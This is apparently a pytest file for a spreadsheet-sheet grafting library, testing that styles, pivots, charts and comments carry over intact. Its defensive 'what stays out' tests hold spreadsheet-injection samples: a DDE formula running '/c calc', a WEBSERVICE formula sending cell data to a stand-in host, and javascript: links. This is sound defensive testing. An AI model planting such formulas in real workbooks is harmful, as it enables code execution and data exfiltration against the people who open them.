"""What other programs write on a sheet, taken over whole; and what keeps a sheet out, with its reason."""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl
import pytest
import xlsxwriter
from conftest import LibreOffice
from grafting import OLD_ROWS, Fill, book, grafted, new_book, picture
from openpyxl.styles import Alignment, Font, NamedStyle, PatternFill
from openpyxl.styles.colors import Color
from openpyxl.workbook import Workbook
from openpyxl.worksheet.table import Table
from package_rules import faults
from parts import MAIN, OFFICE, STRICT_MAIN, edited
from portrait import portrait
from python_calamine import CalamineWorkbook
from test_grafting import KINDS, MINE, SHEET
from xlsxwriter.worksheet import Worksheet

from sspxl.ooxml import Package, Relationship, read_package, rels_name
from sspxl.ooxml.graft import graft
from sspxl.ooxml.package import rels_part
from sspxl.ooxml.survey import Survey, survey

CACHED = "xl/pivotCache/pivotCacheDefinition1.xml"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
THREADED = "http://schemas.microsoft.com/office/2017/10/relationships"


def words(_: xlsxwriter.Workbook, sheet: Worksheet) -> None:
    sheet.write("A1", f"mine: {sheet.name}")


def plain() -> bytes:
    """An old workbook with one plain sheet of hers."""
    return book(OLD_ROWS, {MINE: words})


def with_part(data: bytes, owner: str, arrow: Relationship, content: str | bytes, kind: str) -> bytes:
    """The workbook with one part more, to which `owner` leads."""
    package = read_package(data)
    arrows = [*package.relationships(owner), arrow]
    made = content.encode() if isinstance(content, str) else content
    return package.with_parts(
        {arrow.target: made, rels_name(owner): rels_part(arrows, owner)}, {arrow.target: kind}
    ).data()


def with_arrow(data: bytes, owner: str, kind: str, target: str, *, external: bool = False) -> bytes:
    """The workbook with one arrow more."""
    package = read_package(data)
    arrows = [*package.relationships(owner), Relationship("rId77", kind, target, external)]
    return package.with_parts({rels_name(owner): rels_part(arrows, owner)}).data()


def looked_after(old: bytes, *names: str) -> Package:
    """The new workbook with these sheets, which are the same there and the night after; and nothing is amiss in it."""
    new = new_book()
    done = grafted(old, *names, new=new).package
    data = done.data()
    for name in names:
        assert portrait(data).sheet(name) == portrait(old).sheet(name)
    assert faults(data) == []
    assert grafted(data, *names, new=new).package.data() == data
    return done


# ---------------------------------------------------------------- styles


def styled(change: Callable[[Workbook], None]) -> bytes:
    """The plain workbook, changed and saved by openpyxl."""
    made = openpyxl.load_workbook(io.BytesIO(plain()))
    change(made)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def test_named_styles_come_with_the_cells_that_have_them_and_no_others() -> None:
    def change(made: Workbook) -> None:
        for name, colour in (("Mine", "FF00AA00"), ("Unused", "FF0000AA")):
            made.add_named_style(NamedStyle(name, font=Font(b=True, color=colour), fill=PatternFill("solid", colour)))
        made[MINE]["B2"] = 3
        made[MINE]["B2"].style = "Mine"
        made[MINE]["B3"].style = "Mine"
        made[MINE]["B3"].alignment = Alignment(horizontal="center")
        made[MINE]["B4"].style = "Percent"

    old = styled(change)
    done = looked_after(old, MINE)
    sheet = openpyxl.load_workbook(io.BytesIO(done.data()))[MINE]
    assert [sheet[cell].style for cell in ("A1", "B2", "B3", "B4")] == ["Normal", "Mine", "Mine", "Percent"]
    assert b"Unused" not in done.parts["xl/styles.xml"]


def test_a_cell_style_that_only_a_table_names_comes_with_it() -> None:
    def change(made: Workbook) -> None:
        made.add_named_style(NamedStyle("Mine", font=Font(b=True)))
        made["Actions"]["H9"].style = "Mine"
        made[MINE]["B1"], made[MINE]["B2"] = "Cost", 1
        made[MINE].add_table(Table(displayName="Costs", ref="B1:B2"))

    old = edited(styled(change), "xl/tables/table2.xml", 'name="Cost"', 'name="Cost" dataCellStyle="Mine"')
    done = looked_after(old, MINE)
    assert b'<cellStyle name="Mine"' in done.parts["xl/styles.xml"]


def test_a_conditional_format_gets_a_number_format_of_its_own_number() -> None:
    def fill(made: xlsxwriter.Workbook, sheet: Worksheet) -> None:
        loud = made.add_format({"num_format": '"! "@'})
        sheet.conditional_format("D1:D3", {"type": "cell", "criteria": ">", "value": 1, "format": loud})

    old = edited(book(OLD_ROWS, {MINE: fill}), "xl/styles.xml", 'numFmtId="165"', 'numFmtId="164"')  # as LibreOffice
    styles = looked_after(old, MINE).xml("xl/styles.xml")
    formats = [(one.get("numFmtId"), one.get("formatCode")) for one in styles.iter(f"{{{MAIN}}}numFmt")]
    assert formats == [("164", '0" of 4"'), ("165", '"! "@')]


def test_colours_of_her_theme_stay_those_of_her_theme() -> None:
    def change(made: Workbook) -> None:
        made[MINE]["A1"].fill = PatternFill("solid", fgColor=Color(theme=5, tint=0.4))
        made[MINE]["A1"].font = Font(color=Color(theme=4))

    old = edited(styled(change), "xl/theme/theme1.xml", 'val="C0504D"', 'val="12AB34"')
    done = looked_after(old, MINE)
    assert done.parts["xl/theme/theme1.xml"] == read_package(old).parts["xl/theme/theme1.xml"]
    assert b"12AB34" not in read_package(new_book()).parts["xl/theme/theme1.xml"]


def test_colours_that_are_numbers_in_her_own_palette_become_colours() -> None:
    palette = "".join(f'<rgbColor rgb="FF0000{n:02X}"/>' for n in range(64))

    def change(made: Workbook) -> None:
        made[MINE]["A1"].font = Font(color=Color(indexed=11))
        made[MINE]["A2"].fill = PatternFill("solid", fgColor=Color(indexed=64))

    hers = f"<indexedColors>{palette}</indexedColors>"
    old = edited(styled(change), "xl/styles.xml", "<indexedColors>.*</indexedColors>", hers)
    made = openpyxl.load_workbook(io.BytesIO(grafted(old, MINE).package.data()))[MINE]
    assert made["A1"].font.color.rgb == "FF00000B"
    assert made["A2"].fill.fgColor.indexed == 64


def test_a_sum_of_money_stays_in_her_currency_on_a_computer_that_knows_another() -> None:
    pounds = '_-"£"* #,##0.00_-;-"£"* #,##0.00_-'

    def fill(made: xlsxwriter.Workbook, sheet: Worksheet) -> None:
        for row, number in enumerate((44, 44, 9)):
            sheet.write(row, 0, 12.5, made.add_format({"num_format": number, "bold": row == 1}))

    stated = f'<numFmts count="1"><numFmt numFmtId="44" formatCode="{pounds.replace(chr(34), "&quot;")}"/></numFmts>'
    old = edited(book(OLD_ROWS, {MINE: fill}), "xl/styles.xml", "<fonts ", f"{stated}<fonts ")
    done = looked_after(old, MINE)
    styles = done.xml("xl/styles.xml")
    formats = styles.find(f"{{{MAIN}}}numFmts")
    used = [one.get("numFmtId") for one in styles.find(f"{{{MAIN}}}cellXfs")]
    assert [one.get("formatCode") for one in formats if one.get("numFmtId") == "44"] == [pounds]
    assert (used.count("44"), used.count("9")) == (2, 1)


def test_a_table_style_of_her_own_comes_with_its_table() -> None:
    def fill(made: xlsxwriter.Workbook, sheet: Worksheet) -> None:
        sheet.add_table("A1:B4", {"name": "Costs", "style": "Table Style Medium 2"})
        bold = made.add_format({"bold": 1})
        sheet.conditional_format("D1:D3", {"type": "cell", "criteria": ">", "value": 1, "format": bold})

    def other(made: xlsxwriter.Workbook, sheet: Worksheet) -> None:
        italic = made.add_format({"italic": 1})
        sheet.conditional_format("D1:D3", {"type": "cell", "criteria": ">", "value": 1, "format": italic})

    styles = (
        '<tableStyles count="2"><tableStyle name="Hers" pivot="0" count="1">'
        '<tableStyleElement type="wholeTable" dxfId="2"/></tableStyle>'
        '<tableStyle name="Unused" count="0"/></tableStyles>'
    )
    old = edited(book(OLD_ROWS, {"Other": other, MINE: fill}), "xl/styles.xml", "<tableStyles .*?/>", styles)
    old = edited(old, "xl/tables/table2.xml", "TableStyleMedium2", "Hers")
    done = looked_after(old, MINE)
    made = done.xml("xl/styles.xml")
    (style,) = made.iter(f"{{{MAIN}}}tableStyle")
    dxfs = list(made.find(f"{{{MAIN}}}dxfs"))
    assert (style.get("name"), len(dxfs)) == ("Hers", 2)
    assert dxfs[int(style[0].get("dxfId"))].find(f"{{{MAIN}}}font/{{{MAIN}}}b") is not None


def test_the_font_of_a_reading_aid_and_blanks_around_words_stay() -> None:
    def other(made: xlsxwriter.Workbook, sheet: Worksheet) -> None:
        for row, colour in enumerate(("red", "blue")):
            sheet.write(row, 0, "x", made.add_format({"font_color": colour}))

    def fill(_: xlsxwriter.Workbook, sheet: Worksheet) -> None:
        sheet.write_string("A1", "words")
        sheet.write_string("A2", " Today")
        sheet.write_string("A3", "Today")

    aid = '<t>words</t><phoneticPr fontId="3"/>'
    old = edited(book(OLD_ROWS, {"Other": other, MINE: fill}), "xl/sharedStrings.xml", "<t>words</t>", aid)
    done = grafted(old, MINE).package
    styles, texts = done.xml("xl/styles.xml"), done.xml("xl/sharedStrings.xml")
    (font,) = (int(one.get("fontId")) for one in texts.iter(f"{{{MAIN}}}phoneticPr"))
    assert [one.get("rgb") for one in styles.find(f"{{{MAIN}}}fonts")[font].iter(f"{{{MAIN}}}color")] == ["FF0000FF"]
    shown = CalamineWorkbook.from_filelike(io.BytesIO(done.data())).get_sheet_by_name(MINE).to_python()
    assert shown == [["words"], [" Today"], ["Today"]]
    assert done.parts["xl/sharedStrings.xml"].count(b"<t>Today</t>") == 1


# ---------------------------------------------------------------- parts by hand


CACHE = (
    f'<pivotCacheDefinition xmlns="{MAIN}" xmlns:r="{OFFICE}" r:id="rId1" recordCount="3" refreshedVersion="3">'
    '<cacheSource type="worksheet"><worksheetSource SOURCE/></cacheSource><cacheFields count="3">'
    '<cacheField name="Key" numFmtId="0"><sharedItems/></cacheField>'
    '<cacheField name="Lead" numFmtId="164"><sharedItems/></cacheField><cacheField name="RAG" numFmtId="0">'
    '<sharedItems count="2"><s v="Red"/><s v="Green"/></sharedItems></cacheField></cacheFields></pivotCacheDefinition>'
)
RECORDS = (
    f'<pivotCacheRecords xmlns="{MAIN}" count="3"><r><s v="ASB/1"/><s v="KM"/><x v="0"/></r><r><s v="ASB/2"/>'
    '<s v="TO"/><x v="1"/></r><r><s v="ASB/3"/><s v="RW"/><x v="0"/></r></pivotCacheRecords>'
)
PIVOT = (
    f'<pivotTableDefinition xmlns="{MAIN}" name="P1" cacheId="7" dataCaption="Values">'
    '<location ref="D1:E4" firstHeaderRow="1" firstDataRow="1" firstDataCol="1"/><pivotFields count="3">'
    '<pivotField dataField="1" numFmtId="164"/><pivotField/><pivotField axis="axisRow"><items count="3"><item x="0"/>'
    '<item x="1"/><item t="default"/></items></pivotField></pivotFields><rowFields count="1"><field x="2"/></rowFields>'
    '<rowItems count="3"><i><x/></i><i><x v="1"/></i><i t="grand"><x/></i></rowItems>'
    '<colItems count="1"><i/></colItems>'
    '<dataFields count="1"><dataField name="How many" fld="0" subtotal="count" numFmtId="164"/></dataFields>'
    '<pivotTableStyleInfo name="PivotStyleLight16"/></pivotTableDefinition>'
)


def with_pivot(source: str) -> bytes:
    """The plain workbook with a pivot table on her sheet."""

    def fill(made: xlsxwriter.Workbook, sheet: Worksheet) -> None:
        for n, row in enumerate((("Row", "How many"), ("Red", 2), ("Green", 1), ("Total", 3))):
            sheet.write_row(n, 3, row)
        sheet.write("A1", 1, made.add_format({"num_format": '0" of them"'}))

    cache, pivot = CACHED, "xl/pivotTables/pivotTable1.xml"
    kind = f"{SHEET_TYPE}.pivotCacheDefinition+xml"
    old = book(OLD_ROWS, {MINE: fill})
    arrow = Relationship("rId9", f"{OFFICE}/pivotTable", pivot)
    old = with_part(old, SHEET, arrow, PIVOT, f"{SHEET_TYPE}.pivotTable+xml")
    arrow = Relationship("rId1", f"{OFFICE}/pivotCacheDefinition", cache)
    old = with_part(old, pivot, arrow, CACHE.replace("SOURCE", source), kind)
    arrow = Relationship("rId1", f"{OFFICE}/pivotCacheRecords", "xl/pivotCache/pivotCacheRecords1.xml")
    old = with_part(old, cache, arrow, RECORDS, f"{SHEET_TYPE}.pivotCacheRecords+xml")
    old = with_arrow(old, "xl/workbook.xml", f"{OFFICE}/pivotCacheDefinition", cache)
    listed = '<pivotCaches><pivotCache cacheId="7" r:id="rId77"/></pivotCaches></workbook>'
    return edited(old, "xl/workbook.xml", "</workbook>", listed)


@pytest.mark.parametrize(
    ("was", "now"),
    [
        ('ref="A1:C4" sheet="Actions"', {"ref": "A3:C7", "sheet": "Actions"}),
        ('name="Actions"', {"name": "Actions"}),
        ('ref="A1:C3" sheet="Actions"', {"ref": "A3:C6", "sheet": "Actions"}),
    ],
    ids=["cells", "table", "some cells"],
)
def test_a_pivot_table_over_ours_reads_all_of_it_anew_when_it_is_opened(was: str, now: dict[str, str]) -> None:
    done = grafted(with_pivot(was), MINE).package
    root = done.xml("xl/pivotCache/pivotCacheDefinition1.xml")
    assert (root.get("refreshOnLoad"), dict(root[0][0].attrib)) == ("1", now)
    assert faults(done.data()) == []
    assert grafted(done.data(), MINE, new=new_book()).package == done


def test_a_pivot_table_over_her_own_cells_is_the_same() -> None:
    old = with_pivot('ref="D1:F4" sheet="My sums"')
    done = looked_after(old, MINE)
    assert re.findall("<pivotCache .*?/>", done.parts["xl/workbook.xml"].decode()) == [
        '<pivotCache cacheId="1" r:id="rId7"/>'
    ]
    (read,) = openpyxl.load_workbook(io.BytesIO(done.data()))[MINE]._pivots
    assert (read.name, read.cache.cacheSource.worksheetSource.ref) == ("P1", "D1:F4")


def test_a_chart_sheet_is_carried_too() -> None:
    def change(made: xlsxwriter.Workbook, sheet: Worksheet) -> None:
        words(made, sheet)
        chart = made.add_chart({"type": "bar"})
        chart.add_series({"values": "=Actions!$A$2:$A$4"})
        made.add_chartsheet("Big picture").set_chart(chart)

    done = grafted(book(OLD_ROWS, {MINE: change}), MINE, "Big picture")
    data = done.package.data()
    assert portrait(data).tabs() == ["Dashboard", "Actions", MINE, "Big picture"]
    (chart,) = [part for name, part in done.package.parts.items() if name.endswith("charts/chart2.xml")]
    assert b"Actions!$A$4:$A$7" in chart
    assert faults(data) == []
    assert openpyxl.load_workbook(io.BytesIO(data)).chartsheets[0].title == "Big picture"


def test_threaded_comments_come_with_those_who_wrote_them() -> None:
    def fill(_: xlsxwriter.Workbook, sheet: Worksheet) -> None:
        sheet.write_comment("A1", "[Threaded comment] Is this right?", {"author": "tc={1}"})

    space = "http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"
    who = "{11111111-1111-1111-1111-111111111111}"
    thread = (
        f'<ThreadedComments xmlns="{space}"><threadedComment ref="A1" dT="2026-11-20T10:00:00.00" personId="{who}"'
        ' id="{22222222-2222-2222-2222-222222222222}"><text>Is this right?</text></threadedComment>'
        "</ThreadedComments>"
    )
    person = f'<person displayName="Keira Marsden" id="{who}" userId="k" providerId="None"/>'
    persons = f'<personList xmlns="{space}">{person}</personList>'
    arrow = Relationship("rId8", f"{THREADED}/threadedComment", "xl/threadedComments/threadedComment1.xml")
    old = with_part(book(OLD_ROWS, {MINE: fill}), SHEET, arrow, thread, "application/vnd.ms-excel.threadedcomments+xml")
    arrow = Relationship("rId88", f"{THREADED}/person", "xl/persons/person.xml")
    old = with_part(old, "xl/workbook.xml", arrow, persons, "application/vnd.ms-excel.person+xml")
    done = looked_after(old, MINE)
    assert [done.parts[one.target] for one in done.relationships("xl/workbook.xml") if one.short == "person"] == [
        persons.encode()
    ]


def test_formulas_that_spill_do_so_beside_ours_that_spill_too() -> None:
    def fill(_: xlsxwriter.Workbook, sheet: Worksheet) -> None:
        sheet.write_dynamic_array_formula("A1:A3", "=UNIQUE(B1:B9)", None, 1)

    old = book(OLD_ROWS, {MINE: fill})
    done = grafted(old, MINE, new=book(OLD_ROWS, {"Ours": fill})).package
    assert portrait(done.data()).sheet(MINE) == portrait(old).sheet(MINE)
    assert [name for name in done.parts if "metadata" in name] == ["xl/metadata.xml"]
    assert faults(done.data()) == []


def test_sheets_saved_by_libreoffice_are_carried_as_it_saved_them(libreoffice: LibreOffice, tmp_path: Path) -> None:
    made = tmp_path / "master.xlsx"
    made.write_bytes(book(OLD_ROWS, {fill.__name__: fill for fill in KINDS}))
    old = libreoffice.convert(made).read_bytes()
    filtered = ' ref="B3:D7"', ' ref="B3:D6"'  # it writes that the filter goes over the table's row of totals, too
    old = edited(old, "xl/tables/table2.xml", f"<autoFilter{filtered[0]}", f"<autoFilter{filtered[1]}")
    names = [fill.__name__ for fill in KINDS]
    done = looked_after(old, *names)
    assert portrait(done.data()).names(*names) == portrait(old).names(*names)
    assert b'formatCode="General"' in read_package(old).parts["xl/styles.xml"]
    assert b'formatCode="General"' not in done.parts["xl/styles.xml"]


def test_a_filter_over_a_row_of_totals_is_put_right() -> None:
    def fill(_: xlsxwriter.Workbook, sheet: Worksheet) -> None:
        sheet.add_table("B3:D7", {"name": "Costs", "total_row": True})

    right = book(OLD_ROWS, {MINE: fill})
    wrong = edited(right, "xl/tables/table2.xml", '<autoFilter ref="B3:D6"', '<autoFilter ref="B3:D7"')
    assert grafted(wrong, MINE).package == grafted(right, MINE).package


# ---------------------------------------------------------------- what stays out


def left(old: bytes, *names: str) -> dict[str, str]:
    found = survey(read_package(old), names or (MINE,))
    assert not set(found.carried) & set(found.left)
    return dict(found.left)


NOTE = '<xml xmlns:x="urn:schemas-microsoft-com:office:excel"><x:ClientData ObjectType="KIND"/></xml>'


def vml(kind: str) -> bytes:
    arrow = Relationship("rId5", f"{OFFICE}/vmlDrawing", "xl/drawings/vmlDrawing1.vml")
    return with_part(
        plain(), SHEET, arrow, NOTE.replace("KIND", kind), "application/vnd.openxmlformats-officedocument.vmlDrawing"
    )


def formula(written: str) -> bytes:
    def fill(_: xlsxwriter.Workbook, sheet: Worksheet) -> None:
        sheet.write_formula("A1", written)

    return book(OLD_ROWS, {MINE: fill})


def cell(old: str, new: str) -> bytes:
    return edited(plain(), SHEET, old, new)


def rule(written: str) -> bytes:
    def fill(_: xlsxwriter.Workbook, sheet: Worksheet) -> None:
        sheet.conditional_format("A1:A9", {"type": "formula", "criteria": written})

    return book(OLD_ROWS, {MINE: fill})


def drop_down(written: str) -> bytes:
    def fill(_: xlsxwriter.Workbook, sheet: Worksheet) -> None:
        sheet.data_validation("A1", {"validate": "list", "source": written})

    return book(OLD_ROWS, {MINE: fill})


def chart_over(written: str) -> bytes:
    def fill(made: xlsxwriter.Workbook, sheet: Worksheet) -> None:
        chart = made.add_chart({"type": "line"})
        chart.add_series({"values": "=Actions!$B$2:$B$4"})
        sheet.insert_chart("C3", chart)

    made = book(OLD_ROWS, {MINE: fill})
    part = next(name for name, data in read_package(made).parts.items() if b"Actions!$B$2:$B$4" in data)
    return edited(made, part, re.escape("Actions!$B$2:$B$4"), escape(written.removeprefix("=")))


def named(written: str = "1", **attributes: str) -> bytes:
    marks = "".join(f' {name}="{value}"' for name, value in attributes.items())
    names = f'<definedNames><definedName name="Trick"{marks}>{written}</definedName>'
    return edited(formula("=Trick+1"), "xl/workbook.xml", "<definedNames>", names)


def drawing(kind: str, target: str, *, external: bool = False) -> bytes:
    def fill(_: xlsxwriter.Workbook, sheet: Worksheet) -> None:
        sheet.insert_image("A1", "a.png", {"image_data": picture("red")})

    return with_arrow(book(OLD_ROWS, {MINE: fill}), "xl/drawings/drawing2.xml", kind, target, external=external)


def arrow_to(kind: str) -> bytes:
    return with_part(plain(), SHEET, Relationship("rId5", kind, "xl/x/x1.xml"), "<x/>", "application/x+xml")


def macro_sheet() -> bytes:
    arrow = '/worksheet" Target="worksheets/sheet3'
    return edited(plain(), "xl/_rels/workbook.xml.rels", arrow, arrow.replace('/worksheet"', '/xlMacrosheet"'))


FETCHED = "shows a picture that is fetched from elsewhere"
NO_LINK = "holds a link that is no page, mail or file (javascript:)"
CONTROL = "holds a form control, which may run a macro"
ELSEWHERE = "points to another workbook"
ASKING = "holds a formula that fetches something, or asks another program"


@pytest.mark.parametrize(
    ("old", "why"),
    [
        (arrow_to(f"{OFFICE}/ctrlProp"), CONTROL),
        (arrow_to(f"{OFFICE}/control"), CONTROL),
        (vml("Button"), CONTROL),
        (vml('Note"/><v:imagedata o:href="https://example.org/a.png'), FETCHED),
        (arrow_to(f"{OFFICE}/oleObject"), "holds an embedded object"),
        (arrow_to(f"{OFFICE}/package"), "holds an embedded object"),
        (arrow_to(f"{OFFICE}/queryTable"), "is fed by a data connection"),
        (edited(with_pivot(""), CACHED, 'type="worksheet"', 'type="external"'), "is fed by a data connection"),
        (arrow_to("http://schemas.microsoft.com/office/2007/relationships/slicer"), "holds a slicer or a timeline"),
        (arrow_to("http://schemas.microsoft.com/office/2011/relationships/timeline"), "holds a slicer or a timeline"),
        (arrow_to(f"{OFFICE}/tableSingleCells"), "is mapped to XML data"),
        (arrow_to("urn:x/news"), "holds something that sspxl does not know (news)"),
        (formula("=[1]Sheet1!A1"), ELSEWHERE),
        (formula("=cmd|'/c calc'!A0"), ELSEWHERE),
        (formula('=_xlfn.WEBSERVICE("http://x.example/?"&Actions!A2)'), f"{ASKING} (WEBSERVICE)"),
        (rule('=_xlfn.IMAGE("http://x.example/a.png")=1'), f"{ASKING} (IMAGE)"),
        (drop_down('=_xlfn.STOCKHISTORY("X",1)'), f"{ASKING} (STOCKHISTORY)"),
        (chart_over('=_xlfn.WEBSERVICE("http://x.example")'), f"{ASKING} (WEBSERVICE)"),
        (named('_xlfn.WEBSERVICE("http://x.example")'), 'uses the name "trick", which could not be carried'),
        (formula('=HYPERLINK("javascript:alert(1)")'), NO_LINK),
        (with_arrow(plain(), SHEET, f"{OFFICE}/externalLinkPath", "b.xlsx", external=True), ELSEWHERE),
        (drawing(f"{OFFICE}/image", "https://example.org/a.png", external=True), FETCHED),
        (drawing(f"{OFFICE}/hyperlink", "javascript:alert(1)", external=True), NO_LINK),
        (with_arrow(plain(), SHEET, f"{OFFICE}/image", "xl/a.png"), "is damaged: its part xl/a.png is missing"),
        (cell('<c r="A1"', '<c r="A1" vm="1"'), "holds a picture in a cell, or a linked data type"),
        (cell('<c r="A1"', '<c r="A1" cm="1"'), "holds a picture in a cell, or a linked data type"),
        (cell("</worksheet>", ""), "is damaged: its part xl/worksheets/sheet3.xml is not whole"),
        (named(function="1"), 'uses the name "trick", which could not be carried'),
        (named(xlm="true"), 'uses the name "trick", which could not be carried'),
        (edited(plain(), "xl/workbook.xml", "<workbookPr ", '<workbookPr date1904="1" '), "counts days from 1904"),
        (macro_sheet(), "is a macro sheet"),
        (edited(plain(), "xl/workbook.xml", re.escape(MAIN), STRICT_MAIN), "was saved as Strict Open XML; save the"),
    ],
)  # fmt: skip
def test_a_sheet_stays_out_with_its_reason(old: bytes, why: str) -> None:
    said = left(old)
    assert list(said) == [MINE]
    assert said[MINE].startswith(why)


@pytest.mark.parametrize(
    "old",
    [
        vml("Note"),
        vml('Note"/><v:imagedata o:relid="rId1'),
        formula('="a|b"&A2'),
        formula("=SUM(A2:A9)"),
        formula("=_xlfn.FILTERXML(A2,A3)"),
        formula('=HYPERLINK("https://example.org/?q="&Actions!A2,"javascript:")'),
        formula("=HYPERLINK(Actions!A2)"),
        named(hidden="1"),
        named(function="0"),
        drawing(f"{OFFICE}/hyperlink", "https://example.org/?q=javascript:", external=True),
        drawing(f"{OFFICE}/hyperlink", "notes/a b.docx", external=True),
        drawing(f"{OFFICE}/hyperlink", "file:///C:/notes/a.docx", external=True),
        drawing(f"{OFFICE}/hyperlink", "C:\\notes\\a.docx", external=True),
        drawing(f"{OFFICE}/hyperlink", "#Actions!A1"),
        edited(plain(), "xl/workbook.xml", "<workbookPr ", '<workbookPr date1904="0" '),
    ],
)
def test_what_is_harmless_keeps_no_sheet_out(old: bytes) -> None:
    assert left(old) == {}


def test_a_shape_that_leads_to_one_of_our_cells_leads_there_tonight() -> None:
    done = grafted(drawing(f"{OFFICE}/hyperlink", "#Actions!A3"), MINE).package
    links = [one.target for one in done.relationships("xl/drawings/drawing2.xml") if one.short == "hyperlink"]
    assert links == ["#Actions!A6"]


def test_a_macro_that_a_shape_would_run_does_not_come_with_it() -> None:
    old = edited(
        drawing(f"{OFFICE}/hyperlink", "#A1"), "xl/drawings/drawing2.xml", "<xdr:pic>", '<xdr:pic macro="[0]!Run">'
    )
    assert b'macro=""' in grafted(old, MINE).package.parts["xl/drawings/drawing2.xml"]


def test_what_points_to_a_sheet_that_stays_out_stays_out_with_it() -> None:
    def pointing(_: xlsxwriter.Workbook, sheet: Worksheet) -> None:
        sheet.write_formula("A1", "='My sums'!A1*2")

    def by_name(made: xlsxwriter.Workbook, sheet: Worksheet) -> None:
        sheet.write_formula("A1", "=Total*2")
        made.define_name("Total", "=Pointing!$A$1")
        made.define_name("Rate", "=0.25")

    sheets: dict[str, Fill] = {MINE: words, "Pointing": pointing, "By name": by_name, "Free": words}
    old = with_arrow(book(OLD_ROWS, sheets), SHEET, f"{OFFICE}/oleObject", "x.bin")
    found = survey(read_package(old), [*sheets])
    assert (found.carried, dict(found.left)) == (
        ("Free",),
        {
            MINE: "holds an embedded object",
            "Pointing": 'points to "My sums", which could not be carried',
            "By name": 'uses the name "total", which could not be carried',
        },
    )
    assert [one.get("name") for one in found.names] == ["Rate"]
    assert portrait(grafted_rest(old, found)).tabs() == ["Dashboard", "Actions", "Free"]


def grafted_rest(old: bytes, found: Survey) -> bytes:
    done = graft(read_package(new_book()), read_package(old), found, {}).package.data()
    assert faults(done) == []
    return done


def test_a_sheet_that_is_not_wanted_is_not_looked_at() -> None:
    assert survey(read_package(arrow_to(f"{OFFICE}/control")), ()) == Survey()
    assert survey(read_package(plain()), ["None of this name"]) == Survey()
